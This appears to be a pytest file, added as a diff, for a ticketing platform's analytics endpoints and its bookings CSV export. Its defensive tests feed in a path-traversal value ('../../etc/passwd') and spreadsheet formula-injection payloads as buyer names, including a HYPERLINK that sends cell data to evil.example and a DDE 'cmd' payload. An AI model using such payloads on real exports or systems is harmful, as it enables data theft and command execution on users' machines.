@@ -1,0 +1,367 @@
+"""Insight over HTTP: what organizers and administrators see of what was sold, and the file of bookings."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+from collections.abc import AsyncIterator
+from datetime import datetime, timedelta
+from typing import Any
+
+import httpx2
+import pytest
+
+from evently.analytics import SLOTS_MAX
+from evently.analytics.export import ROWS_READ
+from evently.catalogue import Event
+from evently.kit.clock import utc_now
+from evently.kit.errors import Unavailable
+from evently.kit.ids import new_id, show_id
+from evently.kit.money import Money
+from evently.reactions import IDLE_SECONDS, Relay
+from evently.web.exports import Download, cell, decimal
+from tests.accounts import MovableClock, make_person
+from tests.box_office import BoxOffice, open_box_office
+from tests.catalogue import make_organizer
+
+
+@pytest.fixture
+async def office(database_url: str) -> AsyncIterator[BoxOffice]:
+    async with open_box_office(database_url) as opened:
+        yield opened
+
+
+async def deliver(office: BoxOffice) -> None:
+    relay = Relay(office.context.database, utc_now)
+    while await relay.turn() != IDLE_SECONDS:
+        pass
+    await relay.retire()
+
+
+async def sell(office: BoxOffice, event: Event, *quantities: int) -> list[dict[str, Any]]:
+    answers = [await office.book(event, office.as_buyer(), quantity) for quantity in quantities]
+    assert {answer.status_code for answer in answers} <= {201}
+    return [answer.json() for answer in answers]
+
+
+def of_event(event: Event) -> str:
+    return f"/v1/events/{show_id('evt', event.event_id)}"
+
+
+def of_organizer(office: BoxOffice) -> str:
+    return f"/v1/organizers/{show_id('org', office.venue.organizer_id)}"
+
+
+def wrong_fields(response: httpx2.Response) -> list[str]:
+    assert response.status_code == 422, response.text
+    return [error["pointer"] for error in response.json()["errors"]]
+
+
+async def get(office: BoxOffice, address: str, headers: dict[str, str], **query: str) -> Any:
+    answer = await office.client.get(address, headers=headers, params=query)
+    assert answer.status_code == 200, answer.text
+    assert answer.headers["cache-control"] == "no-store"
+    return answer.json()
+
+
+async def test_what_an_event_has_sold(office: BoxOffice) -> None:
+    event, manager = await office.open_event(capacity=10), await office.as_member("manager")
+    booked = await sell(office, event, 2, 3)
+    cancelled = await office.client.post(f"{of_event(event)}/bookings/{booked[0]['id']}/cancel", json={}, headers=manager)
+    assert cancelled.status_code == 200
+    behind = await get(office, f"{of_event(event)}/analytics", manager)
+    assert (behind["sums"]["bookings"], behind["journal_rows_behind"] > 0) == (0, True)
+    await deliver(office)
+    expected = {
+        "bookings": 2,
+        "tickets": 5,
+        "cancelled_bookings": 1,
+        "cancelled_tickets": 2,
+        "cancellation_rate": 0.5,
+        "amounts": [
+            {
+                "booked": {"amount": 12_500, "currency": "EUR"},
+                "cancelled": {"amount": 5_000, "currency": "EUR"},
+                "net": {"amount": 7_500, "currency": "EUR"},
+            }
+        ],
+    }
+    assert await get(office, f"{of_event(event)}/analytics", manager) == {
+        "from_at": None,
+        "to_at": None,
+        "events": 1,
+        "sums": expected,
+        "capacity": {"capacity": 10, "held": 0, "sold": 3, "set_aside": 0, "utilisation": 0.3},
+        "journal_rows_behind": 0,
+    }
+    ours = await get(office, f"{of_organizer(office)}/analytics", manager)
+    everybodys = await get(office, "/v1/admin/analytics", office.as_person(new_id(), "admin"))
+    assert ours == everybodys
+    assert ours["sums"] == expected
+
+
+async def test_nothing_sold_has_no_rates(office: BoxOffice) -> None:
+    manager = await office.as_member("manager", organizer_id := await make_organizer(office.context.database, "New here"))
+    found = await get(office, f"/v1/organizers/{show_id('org', organizer_id)}/analytics", manager)
+    assert found["sums"]["cancellation_rate"] is None
+    assert found["capacity"] == {"capacity": 0, "held": 0, "sold": 0, "set_aside": 0, "utilisation": None}
+    assert found["events"] == 0
+
+
+async def test_a_range_is_rounded_outwards_and_said(office: BoxOffice) -> None:
+    event, manager = await office.open_event(capacity=10), await office.as_member("manager")
+    await sell(office, event, 2)
+    await deliver(office)
+    found = await get(
+        office, f"{of_event(event)}/analytics", manager, **{"from": "2026-01-01T10:07:00+05:45", "to": "2199-06-01T10:00:01Z"}
+    )
+    assert (found["from_at"], found["to_at"]) == ("2026-01-01T04:15:00Z", "2199-06-01T10:15:00Z")
+    assert found["sums"]["tickets"] == 2
+    before = await get(office, f"{of_event(event)}/analytics", manager, to=(utc_now() - timedelta(days=1)).isoformat())
+    assert before["sums"]["tickets"] == 0
+    assert before["capacity"]["sold"] == 2, "capacity is what it is now"
+
+
+@pytest.mark.parametrize("where", ["event", "organizer", "platform"])
+async def test_a_series(office: BoxOffice, where: str) -> None:
+    event, manager = await office.open_event(capacity=10), await office.as_member("manager")
+    await sell(office, event, 2, 3)
+    await deliver(office)
+    address = {"event": of_event(event), "organizer": of_organizer(office), "platform": "/v1/admin"}[where]
+    headers = office.as_person(new_id(), "admin") if where == "platform" else manager
+    by_day = await get(office, f"{address}/analytics/series", headers)
+    assert (by_day["granularity"], by_day["time_zone"]) == ("day", "Europe/Berlin" if where == "event" else "UTC")
+    assert len(by_day["points"]) == 31
+    assert by_day["points"][0]["starts_at"] == by_day["from_at"]
+    assert sum(point["sums"]["tickets"] for point in by_day["points"]) == 5
+
+    by_hour = await get(office, f"{address}/analytics/series", headers, granularity="hour", time_zone="Asia/Kathmandu")
+    assert (by_hour["granularity"], by_hour["time_zone"], len(by_hour["points"])) == ("hour", "Asia/Kathmandu", 49)
+    assert all(point["local_start"].endswith(":00:00+05:45") for point in by_hour["points"])
+    assert all(datetime.fromisoformat(point["starts_at"]).minute == 15 for point in by_hour["points"])
+    assert [point["sums"]["bookings"] for point in by_hour["points"] if point["sums"]["amounts"]] in ([2], [1, 1])
+
+
+async def test_the_most_booked_events(office: BoxOffice) -> None:
+    events, manager = [await office.open_event(capacity=10) for _ in range(3)], await office.as_member("manager")
+    for event, quantity in zip(events, (1, 5, 3), strict=True):
+        await sell(office, event, quantity)
+    await deliver(office)
+    expected = [show_id("evt", events[place].event_id) for place in (1, 2, 0)]
+    for address, headers in (
+        (f"{of_organizer(office)}/analytics/events", manager),
+        ("/v1/admin/analytics/events", office.as_person(new_id(), "admin")),
+    ):
+        first = await office.client.get(address, params={"limit": "2"}, headers=headers)
+        second = await office.client.get(first.headers["link"].partition(">")[0].removeprefix("<"), headers=headers)
+        shown = first.json()["data"] + second.json()["data"]
+        assert [event["event_id"] for event in shown] == expected
+        assert second.json()["next_cursor"] is None
+        assert shown[0]["capacity"]["utilisation"] == 0.5
+        assert shown[0]["sums"]["tickets"] == 5
+
+
+@pytest.mark.parametrize(
+    ("address", "query", "pointers"),
+    [
+        ("analytics", {"from": "yesterday"}, ["?from"]),
+        ("analytics", {"from": "2026-01-01T00:00:00", "to": "2026-13-01T00:00:00Z"}, ["?from", "?to"]),
+        ("analytics", {"from": "1999-12-31T23:59:59Z"}, ["?from"]),
+        ("analytics", {"to": "9999-12-31T23:59:59Z"}, ["?to"]),
+        ("analytics", {"to": "0001-01-01T00:00:00+23:59"}, ["?to"]),
+        ("analytics", {"from": "2026-01-02T00:00:00Z", "to": "2026-01-02T00:00:00Z"}, ["?to"]),
+        ("analytics", {"from": "2026-01-02T00:00:00Z" + "0" * 50}, ["?from"]),
+        ("analytics/series", {"time_zone": "Mars/Base"}, ["?time_zone"]),
+        ("analytics/series", {"time_zone": "../../etc/passwd", "from": "never"}, ["?from", "?time_zone"]),
+        ("analytics/series", {"granularity": "minute"}, ["?granularity"]),
+        ("analytics/series", {"from": "2199-01-01T00:00:00Z"}, ["?from"]),
+        ("analytics/series", {"from": "2001-01-01T00:00:00Z"}, ["?from"]),
+        ("analytics/series", {"to": "2000-01-01T00:00:00Z"}, ["?from"]),
+        ("analytics/series", {"granularity": "hour", "from": "2026-01-01T00:00:00Z", "to": "2026-06-01T00:00:00Z"}, ["?from"]),
+        ("analytics/events", {"limit": "101"}, ["?limit"]),
+        ("analytics/events", {"after": "nonsense"}, ["/after"]),
+    ],
+)
+async def test_what_makes_no_sense_is_refused(office: BoxOffice, address: str, query: dict[str, str], pointers: list[str]) -> None:
+    manager = await office.as_member("manager")
+    answer = await office.client.get(f"{of_organizer(office)}/{address}", params=query, headers=manager)
+    assert wrong_fields(answer) == pointers
+
+
+async def test_a_series_may_have_a_thousand_points(office: BoxOffice) -> None:
+    manager = await office.as_member("manager")
+    range_of = {"from": "2024-01-01T00:00:00Z", "to": "2026-09-27T00:00:00Z"}
+    assert len((await get(office, f"{of_organizer(office)}/analytics/series", manager, **range_of))["points"]) == SLOTS_MAX
+
+
+@pytest.mark.parametrize("what", ["analytics", "analytics/series", "bookings.csv"])
+async def test_it_is_for_managers(office: BoxOffice, what: str) -> None:
+    event, draft = await office.open_event(), await office.open_event(publish=False)
+    stranger = await office.as_member("owner", await make_organizer(office.context.database, "Elsewhere"))
+    for headers, published, unpublished in (
+        ({}, 401, 401),
+        (office.as_buyer(), 403, 404),
+        (stranger, 403, 404),
+        (await office.as_member("door"), 403, 403),
+        (await office.as_member("manager"), 200, 200),
+        (office.as_person(new_id(), "admin"), 200, 200),
+    ):
+        assert (await office.client.get(f"{of_event(event)}/{what}", headers=headers)).status_code == published
+        assert (await office.client.get(f"{of_event(draft)}/{what}", headers=headers)).status_code == unpublished
+    assert (await office.client.get(f"/v1/events/{show_id('evt', new_id())}/{what}", headers=stranger)).status_code == 404
+
+
+@pytest.mark.parametrize("what", ["analytics", "analytics/series", "analytics/events"])
+async def test_the_platform_is_for_administrators(office: BoxOffice, what: str) -> None:
+    for headers, status in (({}, 401), (await office.as_member("owner"), 403), (office.as_person(new_id(), "admin"), 200)):
+        assert (await office.client.get(f"/v1/admin/{what}", headers=headers)).status_code == status
+
+
+# The file of bookings -----------------------------------------------------------------------------------------------------
+
+
+async def table(office: BoxOffice, event: Event) -> list[list[str]]:
+    answer = await office.client.get(f"{of_event(event)}/bookings.csv", headers=await office.as_member("manager"))
+    assert answer.status_code == 200, answer.text
+    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
+    assert answer.headers["content-disposition"] == f'attachment; filename="bookings-{show_id("evt", event.event_id)}.csv"'
+    assert answer.headers["cache-control"] == "no-store"
+    assert answer.content.startswith(b"reference,")
+    assert b"ended_at\r\n" in answer.content
+    assert answer.content.endswith(b"\r\n")
+    return list(csv.reader(io.StringIO(answer.text, newline=""), strict=True))
+
+
+async def test_the_bookings_of_an_event_as_a_file(office: BoxOffice) -> None:
+    event = await office.open_event(capacity=10)
+    person_id = await make_person(office.context.database, "ada@example.org", MovableClock())
+    booked = (await office.book(event, office.as_person(person_id), 3)).json()
+    (head, *rows) = await table(office, event)
+    assert head == [
+        "reference",
+        "booking_id",
+        "state",
+        "buyer_name",
+        "buyer_email",
+        "tickets",
+        "amount",
+        "currency",
+        "placed_at",
+        "confirmed_at",
+        "ended_at",
+    ]
+    placed_at = booked["placed_at"].partition(".")[0] + "Z"
+    assert rows == [
+        [booked["reference"], booked["id"], "confirmed", "ada", "ada@example.org", "3", "75.00", "EUR", placed_at, placed_at, ""]
+    ]
+
+
+async def test_an_event_without_bookings_has_a_header(office: BoxOffice) -> None:
+    assert len(await table(office, await office.open_event())) == 1
+
+
+async def test_a_large_file_is_whole(office: BoxOffice) -> None:
+    event = await office.open_event(capacity=1_000)
+    ids = {booking["id"] for booking in await sell(office, event, *[1] * (ROWS_READ + 1))}
+    rows = await table(office, event)
+    assert {row[1] for row in rows[1:]} == ids
+    assert len(rows) == len(ids) + 1
+
+
+async def test_money_without_decimals_has_none(office: BoxOffice) -> None:
+    event = await office.open_event(capacity=10, price=Money(2500, "EUR"))
+    await sell(office, event, 1)
+    assert (await table(office, event))[1][6:8] == ["25.00", "EUR"]
+    assert [decimal(1234, currency) for currency in ("EUR", "JPY", "KWD")] == ["12.34", "1234", "1.234"]
+    assert [decimal(minor, "EUR") for minor in (0, 5, 100)] == ["0.00", "0.05", "1.00"]
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://evil.example?"&A1,"click")',
+        "+1+1",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "＝1+1",
+    ],
+)
+async def test_no_name_is_a_formula(office: BoxOffice, name: str) -> None:
+    event = await office.open_event(capacity=10)
+    person_id = await make_person(office.context.database, "eve@example.org", MovableClock())
+    async with office.context.database.transaction() as tx:
+        await tx.execute("UPDATE people SET name = $2 WHERE person_id = $1", person_id, name)
+    await office.book(event, office.as_person(person_id), 1)
+    assert (await table(office, event))[1][3] == f"'{name}"
+
+
+@pytest.mark.parametrize("name", ['Ann "The Hat", Jr.', "line\r\nbreak", "Zoë; O'Hara", "नेपाल", "a=b", " lead"])
+async def test_names_survive_as_they_are(office: BoxOffice, name: str) -> None:
+    event = await office.open_event(capacity=10)
+    person_id = await make_person(office.context.database, "ann@example.org", MovableClock())
+    async with office.context.database.transaction() as tx:
+        await tx.execute("UPDATE people SET name = $2 WHERE person_id = $1", person_id, name)
+    await office.book(event, office.as_person(person_id), 1)
+    assert (await table(office, event))[1][3] == name
+    assert cell(None) == cell("") == ""
+
+
+async def test_the_erased_are_not_named(office: BoxOffice) -> None:
+    event = await office.open_event(capacity=10)
+    person_id = await make_person(office.context.database, "gone@example.org", MovableClock())
+    await office.book(event, office.as_person(person_id), 1)
+    async with office.context.database.transaction() as tx:
+        await tx.execute("UPDATE people SET email = NULL, name = '', erased_at = $2 WHERE person_id = $1", person_id, utc_now())
+    assert (await table(office, event))[1][3:5] == ["(erased)", "(erased)"]
+
+
+class Listener:
+    """A client that reads `parts` parts and leaves."""
+
+    def __init__(self, parts: int) -> None:
+        self.messages: list[Any] = []
+        self._parts = parts
+        self._gone = asyncio.Event()
+
+    async def receive(self) -> Any:
+        if not self._gone.is_set():
+            await self._gone.wait()
+        return {"type": "http.disconnect"}
+
+    async def send(self, message: Any) -> None:
+        self.messages.append(message)
+        if len(self.messages) > self._parts:
+            self._gone.set()
+        await asyncio.sleep(0)
+
+
+async def test_a_file_is_no_longer_made_when_nobody_listens() -> None:
+    made: list[int] = []
+
+    async def parts() -> AsyncIterator[bytes]:
+        for number in range(1_000):
+            made.append(number)
+            yield b"part"
+
+    listener = Listener(parts=3)
+    nobody: Any = {}
+    await Download(parts(), filename="x.csv", media_type="text/csv")(nobody, listener.receive, listener.send)
+    assert 3 <= len(made) <= 6
+    assert listener.messages[0]["type"] == "http.response.start"
+
+
+async def test_an_answer_has_not_begun_when_the_database_is_away() -> None:
+    async def parts(*, away: bool = True) -> AsyncIterator[bytes]:
+        if away:
+            raise Unavailable("the database cannot be reached")
+        yield b"part"
+
+    listener = Listener(parts=3)
+    nobody: Any = {}
+    with pytest.raises(Unavailable):
+        await Download(parts(), filename="x.csv", media_type="text/csv")(nobody, listener.receive, listener.send)
+    assert listener.messages == []
